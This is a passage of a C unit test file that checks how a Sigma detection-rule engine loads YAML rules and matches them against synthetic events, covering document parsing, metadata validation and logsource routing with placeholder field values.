/* Unit tests: Sigma conformance (docs/sigma.md, /work/shared/reference/sigma-checklist.md).
 *
 * Every P0/P1 checklist row except the correlation rows (S-COR) has at least one positive
 * and one negative test, named after the row. Rules are written as YAML into a temporary
 * folder; events are built directly in C. Every match check runs BOTH the compiled matcher
 * (hm_detect) and the reference evaluator (hm_detect_reference), asserts that the two give
 * the same answer (rule list and selection evidence) and that the answer is the expected
 * one. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "sigma.h"
#include "sigma_int.h"

/* ------------------------------------------------------------------------------------- */
/* temp files                                                                             */

static char g_root[256];
static int g_seq;

static void write_file(const char *path, const char *text) {
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
}

/* A fresh sub-folder of the test root. */
static void new_dir(char *out, size_t cap) {
    snprintf(out, cap, "%s/d%d", g_root, ++g_seq);
    assert_int_equal(mkdir(out, 0700), 0);
}

/* Writes text to a fresh file (NAME in a fresh folder) and returns its path in out. */
static void tmp_file(char *out, size_t cap, const char *name, const char *text) {
    char dir[400];
    new_dir(dir, sizeof dir);
    snprintf(out, cap, "%s/%s", dir, name);
    write_file(out, text);
}

static void rm_rf(const char *path) {
    char cmd[600];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", path);
    if (system(cmd) != 0) fprintf(stderr, "cannot remove %s\n", path);
}

/* ------------------------------------------------------------------------------------- */
/* loading                                                                                */

static const hm_diag *find_diag(const hm_diags *d, hm_diag_sev sev, const char *code) {
    for (size_t i = 0; i < d->n; i++)
        if (d->v[i].sev == sev && !strcmp(d->v[i].code, code)) return &d->v[i];
    return NULL;
}

static hm_ruleset *load_paths(const char *const *paths, size_t n, const hm_rules_opts *o,
                              hm_diags *d) {
    return hm_ruleset_load(paths, n, o, d);
}

/* Loads one YAML text (as rule.yml in a fresh folder); path of the file in path_out. */
static hm_ruleset *load_text(const char *yaml, const hm_rules_opts *o, hm_diags *d, char *path_out,
                             size_t cap) {
    char path[512];
    tmp_file(path, sizeof path, "rule.yml", yaml);
    if (path_out) snprintf(path_out, cap, "%s", path);
    const char *p = path;
    return load_paths(&p, 1, o, d);
}

/* Loads and asserts success with no error (warnings allowed). */
static hm_ruleset *load_ok_at(const char *yaml, const hm_rules_opts *o, const char *file,
                              int line) {
    hm_diags d = {0};
    hm_ruleset *rs = load_text(yaml, o, &d, NULL, 0);
    if (!rs || d.errors) {
        hm_diags_print_text(&d, stderr);
        hm_diags_free(&d);
        hm_ruleset_free(rs);
        print_error("rule set failed to load\n");
        _fail(file, line);
    }
    hm_diags_free(&d);
    return rs;
}
#define LOAD(yaml)         load_ok_at((yaml), NULL, __FILE__, __LINE__)
#define LOAD_OPTS(yaml, o) load_ok_at((yaml), (o), __FILE__, __LINE__)

/* Loads and asserts the load fails with an error of the given code; when line > 0 also
 * asserts its file:line:col (the file is the rule file). */
static void expect_error_at(const char *yaml, const hm_rules_opts *o, const char *code, int eline,
                            int ecol, const char *file, int line) {
    hm_diags d = {0};
    char path[512];
    hm_ruleset *rs = load_text(yaml, o, &d, path, sizeof path);
    const hm_diag *g = find_diag(&d, HM_DIAG_ERROR, code);
    bool ok = rs == NULL && g != NULL;
    if (ok && eline > 0)
        ok = g->line == eline && g->col == ecol && g->file && !strcmp(g->file, path);
    if (!ok) {
        hm_diags_print_text(&d, stderr);
        print_error("expected error [%s] at %d:%d in %s (rule set %s)\n", code, eline, ecol, path,
                    rs ? "loaded" : "not loaded");
        hm_ruleset_free(rs);
        hm_diags_free(&d);
        _fail(file, line);
    }
    hm_diags_free(&d);
}
#define EXPECT_ERROR(yaml, code) expect_error_at((yaml), NULL, (code), 0, 0, __FILE__, __LINE__)
#define EXPECT_ERROR_OPTS(yaml, o, code)                                                           \
    expect_error_at((yaml), (o), (code), 0, 0, __FILE__, __LINE__)
#define EXPECT_ERROR_POS(yaml, code, l, c)                                                         \
    expect_error_at((yaml), NULL, (code), (l), (c), __FILE__, __LINE__)

/* Loads (asserting success) and asserts a warning of the given code was (or was not) given. */
static hm_ruleset *load_warn_at(const char *yaml, const char *code, bool want, const char *file,
                                int line) {
    hm_diags d = {0};
    hm_ruleset *rs = load_text(yaml, NULL, &d, NULL, 0);
    bool has = find_diag(&d, HM_DIAG_WARNING, code) != NULL;
    if (!rs || d.errors || has != want) {
        hm_diags_print_text(&d, stderr);
        print_error("expected %s warning [%s]\n", want ? "a" : "no", code);
        hm_ruleset_free(rs);
        hm_diags_free(&d);
        _fail(file, line);
    }
    hm_diags_free(&d);
    return rs;
}
#define LOAD_WARN(yaml, code)   load_warn_at((yaml), (code), true, __FILE__, __LINE__)
#define LOAD_NOWARN(yaml, code) load_warn_at((yaml), (code), false, __FILE__, __LINE__)

/* ------------------------------------------------------------------------------------- */
/* events                                                                                 */

typedef struct tev {
    hm_event ev;
    hm_record rec;
    hm_kv kv[HM_EVENT_MAX_EXTRA];
} tev;

/* An event with raw record RAW (NULL = "") and logsource product "test". */
static void tev_init(tev *t, const char *raw) {
    memset(t, 0, sizeof(*t));
    t->rec.data = raw ? raw : "";
    t->rec.len = (uint32_t)strlen(t->rec.data);
    t->ev.rec = &t->rec;
    t->ev.extra = t->kv;
    hm_ev_set_c(&t->ev, HM_F_PRODUCT, "test");
}

/* Sets a field by rule name: a taxonomy name sets the taxonomy field, any other name a
 * vendor field (extras). Binary-safe. */
static void tev_setn(tev *t, const char *name, const char *v, size_t n) {
    int id = hm_field_lookup(name, strlen(name));
    if (id >= 0) {
        hm_ev_set(&t->ev, (hm_field_id)id, hm_str_n(v, n));
        return;
    }
    for (uint16_t i = 0; i < t->ev.n_extra; i++)
        if (hm_str_eq_c(t->kv[i].key, name)) {
            t->kv[i].val = hm_str_n(v, n);
            return;
        }
    assert_true(t->ev.n_extra < HM_EVENT_MAX_EXTRA);
    t->kv[t->ev.n_extra++] = (hm_kv){hm_str_c(name), hm_str_n(v, n)};
}
/* Appends a vendor field even when the key is already there. */
static void tev_add(tev *t, const char *name, const char *v) {
    assert_true(t->ev.n_extra < HM_EVENT_MAX_EXTRA);
    t->kv[t->ev.n_extra++] = (hm_kv){hm_str_c(name), hm_str_c(v)};
}
static void tev_set(tev *t, const char *name, const char *v) {
    tev_setn(t, name, v, strlen(v));
}
static void tev_unset(tev *t, hm_field_id id) {
    t->ev.present[id >> 6] &= ~(1ULL << (id & 63));
}

/* ------------------------------------------------------------------------------------- */
/* matching: both engines, compared                                                       */

#define MAXM 64

static void print_event(const tev *t) {
    fprintf(stderr, "  event raw='%.*s'\n", (int)t->rec.len, t->rec.data);
    for (int i = 0; i < HM_F_COUNT; i++)
        if (hm_ev_has(&t->ev, (hm_field_id)i))
            fprintf(stderr, "    %s='%.*s'\n", hm_field_names[i], (int)t->ev.f[i].len,
                    t->ev.f[i].p);
    for (uint16_t i = 0; i < t->ev.n_extra; i++)
        fprintf(stderr, "    %.*s='%.*s'\n", (int)t->kv[i].key.len, t->kv[i].key.p,
                (int)t->kv[i].val.len, t->kv[i].val.p);
}

/* Matches with both engines; fails at file:line when they disagree. Returns the number of
 * matched rules and fills out (first MAXM) from the compiled matcher. */
static size_t detect_both_at(const hm_ruleset *rs, const tev *t, hm_match *out, const char *file,
                             int line) {
    hm_detector *d = hm_detector_new(rs);
    assert_non_null(d);
    hm_match a[MAXM], b[MAXM];
    size_t na = hm_detect(d, &t->ev, a, MAXM);
    size_t nb = hm_detect_reference(rs, &t->ev, b, MAXM);
    /* a second event on the same detector must not be influenced by the first */
    hm_match a2[MAXM];
    size_t na2 = hm_detect(d, &t->ev, a2, MAXM);
    hm_detector_free(d);
    bool same = na == nb && na == na2;
    for (size_t i = 0; same && i < na && i < MAXM; i++)
        same = a[i].rule == b[i].rule && a[i].selections == b[i].selections &&
               a2[i].rule == a[i].rule && a2[i].selections == a[i].selections;
    if (!same) {
        fprintf(stderr, "matcher and reference disagree:\n  hm_detect:");
        for (size_t i = 0; i < na && i < MAXM; i++)
            fprintf(stderr, " %s(sel=%llx)", hm_ruleset_rule(rs, a[i].rule)->id,
                    (unsigned long long)a[i].selections);
        fprintf(stderr, "\n  reference:");
        for (size_t i = 0; i < nb && i < MAXM; i++)
            fprintf(stderr, " %s(sel=%llx)", hm_ruleset_rule(rs, b[i].rule)->id,
                    (unsigned long long)b[i].selections);
        fprintf(stderr, "\n");
        print_event(t);
        _fail(file, line);
    }
    if (out) memcpy(out, a, (na < MAXM ? na : MAXM) * sizeof(hm_match));
    return na;
}

/* Bitmask of matched rule indices (rules 0..63). */
static uint64_t hits_at(const hm_ruleset *rs, const tev *t, const char *file, int line) {
    hm_match m[MAXM];
    size_t n = detect_both_at(rs, t, m, file, line);
    uint64_t mask = 0;
    for (size_t i = 0; i < n && i < MAXM; i++) mask |= 1ULL << m[i].rule;
    return mask;
}
#define HITS(rs, t) hits_at((rs), (t), __FILE__, __LINE__)

/* Builds an event from raw text and name/value pairs (NULL-terminated), checks whether
 * rule 0 matched against the expectation. */
static void check_at(const hm_ruleset *rs, bool want, const char *file, int line, const char *raw,
                     ...) {
    tev t;
    tev_init(&t, raw);
    va_list ap;
    va_start(ap, raw);
    for (;;) {
        const char *k = va_arg(ap, const char *);
        if (!k) break;
        const char *v = va_arg(ap, const char *);
        tev_set(&t, k, v);
    }
    va_end(ap);
    uint64_t m = hits_at(rs, &t, file, line);
    if (((m & 1) != 0) != want) {
        fprintf(stderr, "rule %s: expected %s\n", hm_ruleset_rule(rs, 0)->id,
                want ? "a match" : "no match");
        print_event(&t);
        _fail(file, line);
    }
}
/* YES(rs, raw, "Field", "value", ...): rule 0 matches; NO(...): it does not. */
#define YES(rs, ...) check_at((rs), true, __FILE__, __LINE__, __VA_ARGS__, NULL)
#define NO(rs, ...)  check_at((rs), false, __FILE__, __LINE__, __VA_ARGS__, NULL)

/* Checks a prepared event. */
#define TYES(rs, t) assert_true(HITS((rs), (t)) & 1)
#define TNO(rs, t)  assert_false(HITS((rs), (t)) & 1)

/* ------------------------------------------------------------------------------------- */
/* rule text                                                                              */

#define HDR                                                                                        \
    "title: Test rule\n"                                                                           \
    "id: 00000000-0000-4000-8000-000000000001\n"                                                   \
    "status: test\n"                                                                               \
    "level: high\n"                                                                                \
    "logsource:\n"                                                                                 \
    "    product: test\n"                                                                          \
    "detection:\n"

/* A rule with one selection `sel` holding BODY (indented 8 spaces). */
#define SEL(body) HDR "    sel:\n" body "    condition: sel\n"

static hm_tz g_chicago;

static int group_setup(void **state) {
    (void)state;
    hm_log_quiet = 1;
    snprintf(g_root, sizeof g_root, "/tmp/hm-sigma-test-XXXXXX");
    if (!mkdtemp(g_root)) return -1;
    if (hm_tz_load(&g_chicago, "America/Chicago", 2020, 2030) != HM_OK) return -1;
    return 0;
}
static int group_teardown(void **state) {
    (void)state;
    hm_tz_free(&g_chicago);
    rm_rf(g_root);
    return 0;
}

/* ===================================================================================== */
/* S-DOC                                                                                  */

static void test_doc01_yml_yaml_extensions(void **state) {
    (void)state;
    char dir[400], p[600];
    new_dir(dir, sizeof dir);
    snprintf(p, sizeof p, "%s/a.yml", dir);
    write_file(
        p, "title: A\nid: a-1\nlogsource: {product: test}\ndetection: {s: {F: a}, condition: s}\n");
    snprintf(p, sizeof p, "%s/b.yaml", dir);
    write_file(
        p, "title: B\nid: b-1\nlogsource: {product: test}\ndetection: {s: {F: b}, condition: s}\n");
    snprintf(p, sizeof p, "%s/c.txt", dir);
    write_file(
        p, "title: C\nid: c-1\nlogsource: {product: test}\ndetection: {s: {F: c}, condition: s}\n");
    snprintf(p, sizeof p, "%s/d.yml.bak", dir);
    write_file(p, "not: [valid");
    hm_diags d = {0};
    const char *paths[] = {dir};
    hm_ruleset *rs = load_paths(paths, 1, NULL, &d);
    assert_non_null(rs);
    assert_int_equal(d.errors, 0);
    assert_int_equal(hm_ruleset_count(rs), 2); /* .yml and .yaml; .txt and .bak ignored */
    assert_true(hm_ruleset_find(rs, "a-1") >= 0);
    assert_true(hm_ruleset_find(rs, "b-1") >= 0);
    assert_int_equal(hm_ruleset_find(rs, "c-1"), -1);
    hm_ruleset_free(rs);
    hm_diags_free(&d);
}

static void test_doc01_quoting_does_not_change_meaning(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(HDR "    a:\n        EventID: 4688\n"
                              "    b:\n        EventID: '4688'\n"
                              "    c:\n        EventID: \"4688\"\n"
                              "    condition: a and b and c\n");
    YES(rs, "", "EventID", "4688");
    NO(rs, "", "EventID", "4689");
    NO(rs, "", "EventID", "04688");
    hm_ruleset_free(rs);
    /* keys are lowercase: `Title` is not `title` */
    EXPECT_ERROR("Title: x\nlogsource: {product: test}\ndetection: {s: {F: a}, condition: s}\n",
                 "missing-title");
}

static void test_doc02_multi_document_files(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD("title: One\nid: r-1\nlogsource: {product: test}\n"
                          "detection: {s: {F: one}, condition: s}\n"
                          "---\n"
                          "title: Two\nid: r-2\nlogsource: {product: test}\n"
                          "detection: {s: {F: two}, condition: s}\n"
                          "---\n"
                          "title: Not two-x\nlogsource: {product: test}\n"
                          "filter:\n  rules: [r-2]\n  selection: {G: x}\n  condition: selection\n");
    assert_int_equal(hm_ruleset_count(rs), 2);
    tev t;
    tev_init(&t, "");
    tev_set(&t, "F", "one");
    assert_int_equal(HITS(rs, &t), 1);
    tev_init(&t, "");
    tev_set(&t, "F", "two");
    assert_int_equal(HITS(rs, &t), 2);
    tev_set(&t, "G", "x"); /* filter from the third document */
    assert_int_equal(HITS(rs, &t), 0);
    tev_init(&t, "");
    tev_set(&t, "F", "three");
    assert_int_equal(HITS(rs, &t), 0);
    hm_ruleset_free(rs);
}

static void test_doc03_classify_documents(void **state) {
    (void)state;
    /* correlation documents are counted for the correlation loader, not loaded here */
    hm_ruleset *rs = LOAD("title: One\nid: r-1\nlogsource: {product: test}\n"
                          "detection: {s: {F: one}, condition: s}\n"
                          "---\n"
                          "title: Corr\nid: c-1\ncorrelation: {type: event_count, rules: [r-1], "
                          "group-by: [F], timespan: 1h, condition: {gte: 2}}\n");
    hm_ruleset_info info;
    hm_ruleset_get_info(rs, &info);
    assert_int_equal(info.detection_rules, 1);
    assert_true(info.correlation_rules >= 1);
    assert_int_equal(hm_ruleset_find(rs, "r-1"), 0);
    YES(rs, "", "F", "one");
    NO(rs, "", "F", "two");
    hm_ruleset_free(rs);
    /* neither detection, correlation nor filter */
    EXPECT_ERROR("title: Nothing\nlogsource: {product: test}\n", "bad-document");
    /* a document that is not a map */
    EXPECT_ERROR("- just\n- a list\n", "bad-document");
}

static void test_doc04_unknown_top_level_keys_ignored(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD("title: Custom keys\nid: r-1\nruletype: Sigma\nsample-evtx: x.evtx\n"
                          "custom: {nested: [1, 2]}\nrelated: [{id: r-0, type: derived}]\n"
                          "license: DRL-1.1\nreferences: [https://example.org]\ndate: 2024-01-01\n"
                          "logsource: {product: test, definition: 'free text', extra: key}\n"
                          "detection: {s: {F: one}, condition: s}\n");
    YES(rs, "", "F", "one");
    NO(rs, "", "F", "One more");
    hm_ruleset_free(rs);
}

static void test_doc05_references_across_files(void **state) {
    (void)state;
    char dir[400], p[600];
    new_dir(dir, sizeof dir);
    snprintf(p, sizeof p, "%s/z_rule.yml", dir); /* filter file sorts before the rule file */
    write_file(p, "title: R\nid: r-1\nname: my_rule\nlogsource: {product: test}\n"
                  "detection: {s: {F: one}, condition: s}\n");
    snprintf(p, sizeof p, "%s/a_filter.yml", dir);
    write_file(p, "title: F\nlogsource: {product: test}\n"
                  "filter: {rules: [my_rule], selection: {host: ws1}, condition: selection}\n");
    snprintf(p, sizeof p, "%s/b_filter_unknown.yml", dir);
    write_file(p,
               "title: G\nlogsource: {product: test}\n"
               "filter: {rules: [no_such_rule], selection: {host: ws2}, condition: selection}\n");
    hm_diags d = {0};
    const char *paths[] = {dir};
    hm_ruleset *rs = load_paths(paths, 1, NULL, &d);
    assert_non_null(rs);
    assert_int_equal(d.errors, 0);
    assert_non_null(find_diag(&d, HM_DIAG_WARNING, "filter-unused")); /* no_such_rule */
    YES(rs, "", "F", "one", "host", "ws2");
    NO(rs, "", "F", "one", "host", "ws1");
    hm_ruleset_free(rs);
    hm_diags_free(&d);
}

static void test_doc06_errors_reported_rest_loads(void **state) {
    (void)state;
    char dir[400], p[600];
    new_dir(dir, sizeof dir);
    snprintf(p, sizeof p, "%s/good.yml", dir);
    write_file(p, "title: Good\nid: g-1\nlogsource: {product: test}\n"
                  "detection: {s: {F: one}, condition: s}\n");
    snprintf(p, sizeof p, "%s/bad.yml", dir);
    /* the second selection is bad: the rule must not be half-loaded */
    write_file(p, "title: Bad\nid: b-1\nlogsource: {product: test}\n"
                  "detection: {s: {F: one}, t: {G|nosuchmod: x}, condition: s or t}\n");
    snprintf(p, sizeof p, "%s/broken.yml", dir);
    write_file(p, "title: [unclosed\n");
    const char *paths[] = {dir};
    hm_diags d = {0};
    hm_ruleset *rs = load_paths(paths, 1, NULL, &d);
    assert_null(rs); /* strict: any error fails the load */
    assert_int_equal(d.errors, 2);
    assert_non_null(find_diag(&d, HM_DIAG_ERROR, "unknown-modifier"));
    assert_non_null(find_diag(&d, HM_DIAG_ERROR, "invalid-yaml"));
    hm_diags_free(&d);
    hm_rules_opts o = {.skip_bad_rules = true};
    rs = load_paths(paths, 1, &o, &d);
    assert_non_null(rs);
    assert_int_equal(d.errors, 2); /* still reported */
    assert_int_equal(hm_ruleset_count(rs), 1);
    assert_true(hm_ruleset_find(rs, "g-1") == 0);
    assert_int_equal(hm_ruleset_find(rs, "b-1"), -1);
    YES(rs, "", "F", "one");
    NO(rs, "", "F", "two");
    hm_ruleset_free(rs);
    hm_diags_free(&d);
}

static void test_doc07_obsolete_syntax_rejected(void **state) {
    (void)state;
    EXPECT_ERROR(HDR "    sel:\n        F: x\n    condition: sel | count() by host > 5\n",
                 "obsolete-syntax");
    EXPECT_ERROR(HDR "    sel:\n        F: x\n    timeframe: 5m\n    condition: sel\n",
                 "obsolete-syntax");
    /* a '|' inside a value is not a pipe aggregation */
    hm_ruleset *rs = LOAD(SEL("        F: 'a | b'\n"));
    YES(rs, "", "F", "a | b");
    NO(rs, "", "F", "a");
    hm_ruleset_free(rs);
}

/* ===================================================================================== */
/* S-META                                                                                 */

static void test_meta01_title(void **state) {
    (void)state;
    EXPECT_ERROR("id: x\nlogsource: {product: test}\ndetection: {s: {F: a}, condition: s}\n",
                 "missing-title");
    char long_title[400];
    memset(long_title, 'x', 257);
    long_title[257] = 0;
    char yaml[1024];
    snprintf(yaml, sizeof yaml,
             "title: %s\nlogsource: {product: test}\ndetection: {s: {F: a}, condition: s}\n",
             long_title);
    hm_ruleset *rs = LOAD_WARN(yaml, "long-title");
    YES(rs, "", "F", "a");
    hm_ruleset_free(rs);
    long_title[256] = 0;
    snprintf(yaml, sizeof yaml,
             "title: %s\nlogsource: {product: test}\ndetection: {s: {F: a}, condition: s}\n",
             long_title);
    rs = LOAD_NOWARN(yaml, "long-title");
    assert_string_equal(hm_ruleset_rule(rs, 0)->title, long_title);
    NO(rs, "", "F", "b");
    hm_ruleset_free(rs);
}

static void test_meta02_id_unique(void **state) {
    (void)state;
    /* duplicate ids in one file and across files are errors */
    EXPECT_ERROR(
        "title: A\nid: same\nlogsource: {product: test}\ndetection: {s: {F: a}, condition: s}\n"
        "---\n"
        "title: B\nid: same\nlogsource: {product: test}\ndetection: {s: {F: b}, condition: s}\n",
        "duplicate-id");
    char dir[400], p[600];
    new_dir(dir, sizeof dir);
    snprintf(p, sizeof p, "%s/a.yml", dir);
    write_file(
        p,
        "title: A\nid: same\nlogsource: {product: test}\ndetection: {s: {F: a}, condition: s}\n");
    snprintf(p, sizeof p, "%s/b.yml", dir);
    write_file(
        p,
        "title: B\nid: same\nlogsource: {product: test}\ndetection: {s: {F: b}, condition: s}\n");
    const char *paths[] = {dir};
    hm_diags d = {0};
    assert_null(load_paths(paths, 1, NULL, &d));
    const hm_diag *g = find_diag(&d, HM_DIAG_ERROR, "duplicate-id");
    assert_non_null(g);
    assert_non_null(strstr(g->file, "b.yml"));
    assert_non_null(strstr(g->msg, "a.yml"));
    hm_diags_free(&d);
    /* distinct ids load; a rule without id gets a stable derived id */
    hm_ruleset *rs = LOAD(
        "title: A\nid: id-a\nlogsource: {product: test}\ndetection: {s: {F: a}, condition: s}\n"
        "---\n"
        "title: B\nlogsource: {product: test}\ndetection: {s: {F: b}, condition: s}\n");
    assert_int_equal(hm_ruleset_count(rs), 2);
    assert_string_equal(hm_ruleset_rule(rs, 0)->id, "id-a");
    assert_true(!strncmp(hm_ruleset_rule(rs, 1)->id, "noid-", 5));
    assert_int_equal(hm_ruleset_find(rs, "id-a"), 0);
    assert_int_equal(hm_ruleset_find(rs, "id-b"), -1);
    hm_ruleset_free(rs);
}

static void test_meta03_name_as_reference(void **state) {
    (void)state;
    hm_ruleset *rs =
        LOAD("title: A\nid: id-a\nname: rule_a\nlogsource: {product: test}\n"
             "detection: {s: {F: a}, condition: s}\n"
             "---\n"
             "title: B\nid: id-b\nname: rule_b\nlogsource: {product: test}\n"
             "detection: {s: {F: a}, condition: s}\n"
             "---\n"
             "title: filter by name\nlogsource: {product: test}\n"
             "filter: {rules: [rule_b], selection: {host: h1}, condition: selection}\n");
    assert_int_equal(hm_ruleset_find(rs, "rule_a"), 0);
    assert_int_equal(hm_ruleset_find(rs, "rule_b"), 1);
    assert_int_equal(hm_ruleset_find(rs, "rule_c"), -1);
    assert_string_equal(hm_ruleset_rule(rs, 1)->name, "rule_b");
    tev t;
    tev_init(&t, "");
    tev_set(&t, "F", "a");
    tev_set(&t, "host", "h1");
    assert_int_equal(HITS(rs, &t), 1); /* filter named rule_b by its name */
    tev_init(&t, "");
    tev_set(&t, "F", "a");
    tev_set(&t, "host", "h2");
    assert_int_equal(HITS(rs, &t), 3);
    hm_ruleset_free(rs);
}

static void test_meta05_taxonomy(void **state) {
    (void)state;
    /* docs/sigma.md: field names resolve by name (taxonomy field, else vendor field), for
     * the default taxonomy and any other declared one */
    hm_ruleset *rs = LOAD("title: T\ntaxonomy: sigma\nlogsource: {product: test}\n"
                          "detection: {s: {user: alice, TargetUserName: bob}, condition: s}\n");
    YES(rs, "", "user", "alice", "TargetUserName", "bob");
    NO(rs, "", "user", "alice");
    NO(rs, "", "TargetUserName", "bob", "user", "mallory");
    hm_ruleset_free(rs);
}

static void test_meta06_status(void **state) {
    (void)state;
    const char *yaml = "title: U\nid: u-1\nstatus: unsupported\nlogsource: {product: test}\n"
                       "detection: {s: {F: a}, condition: s}\n"
                       "---\n"
                       "title: D\nid: d-1\nstatus: deprecated\nlogsource: {product: test}\n"
                       "detection: {s: {F: a}, condition: s}\n"
                       "---\n"
                       "title: S\nid: s-1\nstatus: stable\nlogsource: {product: test}\n"
                       "detection: {s: {F: a}, condition: s}\n"
                       "---\n"
                       "title: E\nid: e-1\nstatus: experimental\nlogsource: {product: test}\n"
                       "detection: {s: {F: a}, condition: s}\n";
    hm_ruleset *rs = LOAD(yaml);
    assert_int_equal(hm_ruleset_count(rs), 2); /* unsupported and deprecated skipped */
    assert_int_equal(hm_ruleset_find(rs, "u-1"), -1);
    assert_int_equal(hm_ruleset_find(rs, "d-1"), -1);
    assert_int_equal(hm_ruleset_find(rs, "s-1"), 0);
    tev t;
    tev_init(&t, "");
    tev_set(&t, "F", "a");
    assert_int_equal(HITS(rs, &t), 3);
    hm_ruleset_free(rs);
    hm_rules_opts o = {.include_unsupported = true};
    rs = LOAD_OPTS(yaml, &o);
    assert_int_equal(hm_ruleset_count(rs), 4);
    assert_int_equal(HITS(rs, &t), 15);
    tev_init(&t, "");
    tev_set(&t, "F", "b");
    assert_int_equal(HITS(rs, &t), 0);
    hm_ruleset_free(rs);
    rs = LOAD_WARN("title: X\nstatus: beta\nlogsource: {product: test}\n"
                   "detection: {s: {F: a}, condition: s}\n",
                   "bad-status");
    hm_ruleset_free(rs);
}

static void test_meta08_level(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD("title: A\nid: a\nlevel: critical\nlogsource: {product: test}\n"
                          "detection: {s: {F: a}, condition: s}\n"
                          "---\n"
                          "title: B\nid: b\nlevel: informational\nlogsource: {product: test}\n"
                          "detection: {s: {F: a}, condition: s}\n"
                          "---\n"
                          "title: C\nid: c\nlogsource: {product: test}\n"
                          "detection: {s: {F: a}, condition: s}\n");
    assert_int_equal(hm_ruleset_rule(rs, 0)->level, HM_LEVEL_CRITICAL);
    assert_int_equal(hm_ruleset_rule(rs, 1)->level, HM_LEVEL_INFORMATIONAL);
    assert_int_equal(hm_ruleset_rule(rs, 2)->level, HM_LEVEL_MEDIUM); /* default */
    hm_ruleset_free(rs);
    EXPECT_ERROR("title: A\nlevel: severe\nlogsource: {product: test}\n"
                 "detection: {s: {F: a}, condition: s}\n",
                 "bad-level");
    EXPECT_ERROR("title: A\nlevel: High\nlogsource: {product: test}\n"
                 "detection: {s: {F: a}, condition: s}\n",
                 "bad-level");
}

static void test_meta09_tags(void **state) {
    (void)state;
    hm_ruleset *rs =
        LOAD_NOWARN("title: A\ntags: [attack.t1059.001, attack.execution, cve.2021-44228, "
                    "tlp.amber]\nlogsource: {product: test}\n"
                    "detection: {s: {F: a}, condition: s}\n",
                    "bad-tag");
    const hm_rule_meta *m = hm_ruleset_rule(rs, 0);
    assert_int_equal(m->n_tags, 4);
    assert_string_equal(m->tags[0], "attack.t1059.001");
    hm_ruleset_free(rs);
    rs = LOAD_WARN("title: A\ntags: [Attack.T1059]\nlogsource: {product: test}\n"
                   "detection: {s: {F: a}, condition: s}\n",
                   "bad-tag");
    hm_ruleset_free(rs);
    rs = LOAD_WARN("title: A\ntags: [nodot]\nlogsource: {product: test}\n"
                   "detection: {s: {F: a}, condition: s}\n",
                   "bad-tag");
    hm_ruleset_free(rs);
}

/* ===================================================================================== */
/* S-LOG                                                                                  */

static void test_log01_logsource_mandatory(void **state) {
    (void)state;
    EXPECT_ERROR("title: A\ndetection: {s: {F: a}, condition: s}\n", "missing-logsource");
    EXPECT_ERROR("title: A\nlogsource: windows\ndetection: {s: {F: a}, condition: s}\n",
                 "missing-logsource");
    EXPECT_ERROR("title: A\nlogsource: {product: [a, b]}\ndetection: {s: {F: a}, condition: s}\n",
                 "bad-logsource");
    /* filters need one too */
    hm_rules_opts o = {0};
    EXPECT_ERROR_OPTS(
        "title: A\nid: a\nlogsource: {product: test}\ndetection: {s: {F: a}, condition: s}\n"
        "---\n"
        "title: F\nfilter: {rules: [a], selection: {G: x}, condition: selection}\n",
        &o, "missing-logsource");
    hm_ruleset *rs = LOAD("title: A\nlogsource: {product: test, category: process_creation}\n"
                          "detection: {s: {F: a}, condition: s}\n");
    YES(rs, "", "category", "process_creation", "F", "a");
    NO(rs, "", "F", "a");
    hm_ruleset_free(rs);
}

static void test_log02_logsource_values_case_sensitive(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD_WARN("title: A\nlogsource: {product: Windows}\n"
                               "detection: {s: {F: a}, condition: s}\n",
                               "bad-logsource");
    hm_ruleset_free(rs);
    rs = LOAD_NOWARN("title: A\nlogsource: {product: m365, service: onelogin.events, "
                     "category: firewall-as}\ndetection: {s: {F: a}, condition: s}\n",
                     "bad-logsource");
    tev t;
    tev_init(&t, "");
    tev_set(&t, "product", "m365");
    tev_set(&t, "service", "onelogin.events");
    tev_set(&t, "category", "firewall-as");
    tev_set(&t, "F", "a");
    TYES(rs, &t);
    tev_set(&t, "product", "M365"); /* compared case-sensitively */
    TNO(rs, &t);
    hm_ruleset_free(rs);
}

static void test_log03_routing(void **state) {
    (void)state;
    hm_ruleset *rs =
        LOAD("title: full\nid: full\nlogsource: {product: windows, category: process_creation, "
             "service: sysmon}\ndetection: {s: {F: a}, condition: s}\n"
             "---\n"
             "title: service only\nid: svc\nlogsource: {service: apache}\n"
             "detection: {s: {F: a}, condition: s}\n"
             "---\n"
             "title: category only\nid: cat\nlogsource: {category: webserver}\n"
             "detection: {s: {F: a}, condition: s}\n"
             "---\n"
             "title: any source\nid: any\nlogsource: {definition: 'all events'}\n"
             "detection: {s: {F: a}, condition: s}\n");
    tev t;
    tev_init(&t, "");
    tev_unset(&t, HM_F_PRODUCT);
    tev_set(&t, "F", "a");
    assert_int_equal(HITS(rs, &t), 8); /* no logsource on the event: only the unrestricted rule */
    tev_set(&t, "service", "apache");
    assert_int_equal(HITS(rs, &t), 2 | 8); /* a rule with only service routes on service alone */
    tev_set(&t, "category", "webserver");
    assert_int_equal(HITS(rs, &t), 2 | 4 | 8);
    tev_init(&t, "");
    tev_set(&t, "F", "a");
    tev_set(&t, "product", "windows");
    tev_set(&t, "category", "process_creation");
    assert_int_equal(HITS(rs, &t), 8); /* full rule needs service too */
    tev_set(&t, "service", "sysmon");
    assert_int_equal(HITS(rs, &t), 1 | 8);
    tev_set(&t, "category", "file_event");
    assert_int_equal(HITS(rs, &t), 8);
    tev_set(&t, "category", "process_creation");
    tev_set(&t, "F", "b");
    assert_int_equal(HITS(rs, &t), 0);
    hm_ruleset_free(rs);
}

static void test_log04_definition_not_used(void **state) {
    (void)state;
    hm_ruleset *rs =
        LOAD("title: A\nlogsource: {product: test, definition: 'Requires product: other'}\n"
             "detection: {s: {F: a}, condition: s}\n");
    YES(rs, "", "F", "a");
    NO(rs, "", "F", "b");
    hm_ruleset_free(rs);
}

static void test_log05_field_name_resolution(void **state) {
    (void)state;
    /* taxonomy names resolve to taxonomy fields, other names to vendor fields by name */
    hm_ruleset *rs = LOAD(SEL("        src_ip: 10.1.2.3\n        logid: '0100032001'\n"));
